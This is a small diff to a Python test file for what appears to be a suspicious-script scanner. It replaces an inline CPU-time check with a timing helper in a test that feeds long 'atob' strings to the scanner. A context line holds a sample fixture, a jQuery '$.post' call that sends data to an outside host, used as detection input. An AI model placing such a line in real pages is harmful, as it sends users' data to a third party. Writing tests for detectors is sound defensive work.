@@ -7,6 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.cpu_time import within
 from trapline.reporter.evidence.scripts import opened, written
 
 SCRIPTS = {
@@ -142,7 +143,7 @@ def test_a_script_made_to_be_slow_is_read_at_once(piece: str) -> None:
     for _ in range(5):
         list(opened("atob" + piece * 20_000))
         list(written("atob" + piece * 20_000))
-    assert time.process_time() - began < 1
+    assert within(1, began)
 
 
 SENDING = b"$.post('http://pills.com/x', d)"
